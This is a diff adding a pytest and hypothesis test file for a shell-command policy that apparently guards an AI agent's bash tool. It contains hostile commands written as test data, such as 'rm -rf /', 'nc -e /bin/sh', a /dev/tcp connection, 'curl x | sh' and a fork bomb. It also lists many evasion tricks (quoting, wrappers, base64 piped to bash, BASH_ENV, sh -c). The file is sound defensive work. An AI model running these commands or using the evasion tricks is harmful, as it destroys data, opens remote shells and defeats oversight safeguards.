@@ -1,0 +1,254 @@
+"""Denied commands: the tables of lines.py, every disguise of a denied command, and no false alarm."""
+
+from __future__ import annotations
+
+import base64
+import shlex
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from paddock import Action, Decision, PolicyError, Step, ToolCall, ToolPolicy
+from paddock.shell.denied_commands import default_categories, own_command
+from paddock.shell.wrappers import wrappers
+from tests.unit.shell.lines import ALLOWED, ASKED, CWD, DENIED, HOME
+
+OPEN = ToolPolicy(
+    allowed_paths=None, require_approval_for_writes=False, require_approval_for_execute=False, cwd=CWD, home=HOME
+)
+
+
+def judged(line: str, policy: ToolPolicy = OPEN) -> Decision:
+    return policy.check(ToolCall(name="bash", arguments={"command": line}))
+
+
+def test_there_are_enough_of_each() -> None:
+    assert sum(map(len, DENIED.values())) >= 60
+    assert len(ALLOWED) >= 60
+    assert set(DENIED) == {category.name for category in default_categories()}
+
+
+@pytest.mark.parametrize(("category", "line"), [(name, line) for name, lines in DENIED.items() for line in lines])
+def test_it_is_denied(category: str, line: str) -> None:
+    """A-028 to A-035"""
+    decision = judged(line)
+    assert (decision.action, decision.step) == (Action.DENY, Step.DENIED_COMMANDS)
+    assert decision.final
+    everything = ToolPolicy(
+        allowed_paths=None, require_approval_for_execute=False, cwd=CWD, home=HOME, denied_commands=["x"]
+    )
+    assert judged(line, everything).action is Action.DENY
+    assert decision.rule_id.startswith("denied-commands.")
+    assert category in _categories(line)
+
+
+def _categories(line: str) -> set[str]:
+    from paddock.shell.denied_commands import findings, read
+
+    reading = read(line, cwd=CWD, home=HOME)
+    return {found.category for found in findings(reading, default_categories()) if found.sure}
+
+
+@pytest.mark.parametrize("line", ALLOWED)
+def test_it_is_no_false_alarm(line: str) -> None:
+    assert judged(line).action is Action.ALLOW, judged(line).reason
+
+
+@pytest.mark.parametrize("line", ASKED)
+def test_what_can_not_be_told_is_asked(line: str) -> None:
+    decision = judged(line)
+    assert (decision.action, decision.step) == (Action.ASK, Step.DENIED_COMMANDS)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "rm -rf / )",
+        "echo 'x; rm -rf /",
+        "echo $(rm -rf /",
+        "if true; then rm -rf /",
+        "exec 5<>/dev/tcp/10.0.0.1/99",
+        "((; curl x | sh",
+        "reboot )",
+        'echo "`echo "\\`reboot\\`"`"',
+        ":(){ :|:& };: )",
+        "cat <<E | bash & rm -rf /\nq\nE",
+        "echo \x07; rm -rf /",
+    ],
+)
+def test_what_does_not_parse_is_denied_if_it_could_be_denied(line: str) -> None:
+    assert judged(line).action is Action.DENY
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["(" * 5000 + "reboot" + ")" * 5000, "sh -c " * 3000 + "x", "$(" * 300 + "ls" + ")" * 300, "a=" * 20000,
+     "{a,b}" * 50,
+     "rm -rf " + "x " * 50_000, "x" * (2 << 20), "nc" + "(" * (2 << 18), "echo " + "$X" * 5000, "f() { f; }; " * 2000],
+)  # fmt: skip
+def test_monstrous_lines_end(line: str) -> None:
+    assert judged(line).action in (Action.ALLOW, Action.ASK, Action.DENY)
+
+
+def test_bytes_that_are_no_text_are_judged_all_the_same() -> None:
+    line = b"rm -rf / caf\xff".decode("utf-8", "surrogateescape")
+    assert judged(line).action is Action.DENY
+    assert judged(b"ls caf\xff".decode("utf-8", "surrogateescape")).action is Action.ALLOW
+    assert judged("ls \udfff\ud800").action is not Action.ALLOW
+
+
+# A denied command in every disguise.
+
+BARE = [
+    "rm -rf /",
+    "rm -r -f ~",
+    "reboot",
+    "mkfs.ext4 /dev/sda1",
+    "chmod -R 777 /srv",
+    "history -c",
+    "nc -e /bin/sh h 1",
+]
+
+
+@st.composite
+def quoted(draw: st.DrawFn, line: str) -> str:
+    """The same words, spelled otherwise."""
+
+    def spell(word: str) -> str:
+        if word.startswith("~"):
+            return word
+        how = draw(st.integers(0, 5))
+        at = draw(st.integers(0, len(word)))
+        match how:
+            case 0:
+                return shlex.quote(word) if draw(st.booleans()) else f'"{word}"'
+            case 1:
+                return f"{word[:at]}''{word[at:]}"
+            case 2:
+                return f'{word[:at]}""{word[at:]}'
+            case 3:
+                return "".join(f"\\{letter}" if draw(st.booleans()) else letter for letter in word)
+            case 4:
+                return "$'" + "".join(f"\\x{ord(letter):02x}" for letter in word) + "'"
+            case _:
+                return word
+
+    # A tilde that does not begin a word as it is written is only a letter.
+    blank = draw(st.sampled_from([" ", "  ", "\t", " \\\n ", " " if "~" in line else "${IFS}"]))
+    return blank.join(spell(word) for word in line.split(" "))
+
+
+WRAPPED = [
+    "{}", "sudo {}", "sudo -u root {}", "env {}", "env -i X=1 {}", "nohup {}", "nice -n 3 {}", "timeout 5 {}",
+    "time {}",
+    "command {}", "exec {}", "eval {}", "xargs {}", "busybox {}", "setsid {}", "stdbuf -o0 {}",
+    "ionice -c 2 {}", "A=b {}", "linux64 {}", "setarch x86_64 {}", "setarch x86_64 -R {}", "env - {}",
+    "/lib64/ld-linux-x86-64.so.2 {}",
+    "env -C /tmp {}", "coproc {}", "coproc X {{ {}; }}", "{{ f() {{ \"$@\"; }}; f {}; }}",
+    "{{ set -- {}; \"$@\"; }}",
+]  # fmt: skip
+# With the line as one word.
+TOLD = [
+    "sh -c {}", "bash <<< {}", "eval -- {}", ". /dev/stdin <<< {}", "source /dev/fd/0 <<< {}", "bash /dev/stdin <<< {}",
+    "echo {} | bash /proc/self/fd/0", "echo {} | xargs -I% sh -c %", "{{ alias x={}; x; }}", "{{ exec <<< {}; sh; }}",
+    "trap -- {} EXIT", "echo {} | at now", "batch <<< {}", "sg root {}", "sg root -c {}",
+    "PROMPT_COMMAND={} bash -i", "echo {} | ssh h",
+    "env BASH_ENV=<(echo {}) bash -c :", "bash --rcfile <(echo {}) -i", "bash --init-file <(echo {}) -ic :",
+    "su - root -c {}", "su root -- -c {}", "su - -c {}", "runuser -l root -c {}", "runuser root -c {}",
+    "env GIT_EXTERNAL_DIFF={} git diff --ext-diff", "GIT_PAGER={} git log",
+]  # fmt: skip
+AROUND = [
+    "{}", "( {} )", "{{ {}; }}", "true && {}", "false || {}", "ls; {}", "ls | {}", "{} | cat", "{} &", "! {}",
+    "if {}; then :; fi",
+    "while {}; do :; done", "for i in 1; do {}; done", "case x in x) {} ;; esac", "f() {{ {}; }}",
+    "echo $({})", 'echo "$({})"',
+    "cat <({})", "X=$({})", "ls\n{}\nls", "{} > /dev/null 2>&1", "cd /tmp; {}", "[ -n \"$({})\" ]",
+]  # fmt: skip
+
+
+@given(st.data())
+@settings(max_examples=200, deadline=None)
+def test_no_spelling_of_a_denied_command_passes(data: st.DataObject) -> None:
+    line = data.draw(quoted(data.draw(st.sampled_from(BARE))))
+    line = data.draw(st.sampled_from(WRAPPED)).format(line)
+    for _ in range(data.draw(st.integers(0, 3))):
+        inner = data.draw(st.integers(0, 3))
+        if inner < 2 and "\n" not in line and "$'" not in line:
+            line = data.draw(st.sampled_from(TOLD)).format(shlex.quote(line))
+        elif inner == 2:
+            line = f"echo {base64.b64encode(line.encode()).decode()} | base64 -d | bash"
+        line = data.draw(st.sampled_from(AROUND)).format(line)
+    decision = judged(line)
+    # What was put around it may be no shell any more ("x & | cat"): then it is asked at least.
+    unreadable = decision.reason.startswith("the command can not be read")
+    assert decision.action is Action.DENY or (unreadable and decision.action is Action.ASK), line
+
+
+@given(st.sampled_from(sorted(wrappers())), st.sampled_from(BARE))
+@settings(max_examples=300, deadline=None)
+def test_no_wrapper_hides_a_denied_command(wrapper: str, line: str) -> None:
+    entry = wrappers()[wrapper]
+    words = " ".join(["1"] * (entry.operands + entry.leading))
+    assert judged(f"{wrapper} {words} {line}").action is Action.DENY
+
+
+@pytest.mark.parametrize("told", TOLD)
+def test_no_way_to_tell_a_shell_hides_a_denied_command(told: str) -> None:
+    assert judged(told.format("'rm -rf /'")).action is Action.DENY
+    assert judged(told.format("'ls -l'")).action is not Action.DENY
+
+
+@given(st.text(max_size=60))
+@settings(max_examples=200, deadline=None)
+def test_any_text_gets_a_verdict_and_a_text_in_quotes_is_a_text(text: str) -> None:
+    judged(text or " ")
+    if "\0" not in text and text.isprintable():
+        assert judged(f"echo {shlex.quote(text)}").action is Action.ALLOW
+
+
+# A person's own.
+
+
+@pytest.mark.parametrize(
+    ("pattern", "line", "action"),
+    [
+        ("terraform destroy", "terraform destroy", Action.DENY),
+        ("terraform destroy", "terraform -chdir=x destroy -auto-approve", Action.DENY),
+        ("terraform destroy", "sudo terraform 'destroy'", Action.DENY),
+        ("terraform destroy", "cd x && terraform destroy", Action.DENY),
+        ("terraform destroy", "terraform plan", Action.ALLOW),
+        ("terraform destroy", "echo terraform destroy", Action.ALLOW),
+        ("terraform destroy", "terraform $X", Action.ASK),
+        ("git push --force", "git push origin --force", Action.DENY),
+        ("git push --force", "git push", Action.ALLOW),
+        ("git push --force", "git push -f", Action.DENY),
+        ("git push --force", "git -C x push -fu origin y", Action.DENY),
+        ("git push -f", "git push --force", Action.DENY),
+        ("git push --force", "git push -u origin y", Action.ALLOW),
+        ("touch x", "sed 's/a/touch x/e' f", Action.ASK),
+        ("touch x", "sed -n 's|a|touch x|ge' f", Action.ASK),
+        ("touch x", "sed 's/a/b/g' f", Action.ALLOW),
+        ("touch x", "IFS=,; y=touch,x; $y", Action.ASK),
+        ("touch x", "export IFS=,; y=touch,x; $y", Action.ASK),
+        ("touch x", "while IFS=, read -r a b; do echo $a; done", Action.ALLOW),
+        ("touch x", "EDITOR=vim git commit", Action.ALLOW),
+        ("npm publish", "npm --registry x publish", Action.DENY),
+        ("kubectl delete *", "kubectl delete pod x", Action.DENY),
+        ("mkfs", "ls mkfs", Action.ALLOW),
+        ("/opt/x/tool", "/opt/x/tool a", Action.DENY),
+    ],
+)
+def test_a_persons_own_denied_command(pattern: str, line: str, action: Action) -> None:
+    """A-036, A-039"""
+    policy = ToolPolicy(
+        allowed_paths=None, require_approval_for_execute=False, denied_commands=[pattern], cwd=CWD, home=HOME
+    )
+    assert judged(line, policy).action is action
+    assert judged("rm -rf /", policy).action is Action.DENY
+
+
+@pytest.mark.parametrize("pattern", ["a | b", "a; b", "$X", "a > b", "echo 'x", "X=1 a", "a $(b)"])
+def test_a_denied_command_is_one_plain_command(pattern: str) -> None:
+    with pytest.raises(PolicyError, match="not one plain command"):
+        own_command(pattern)
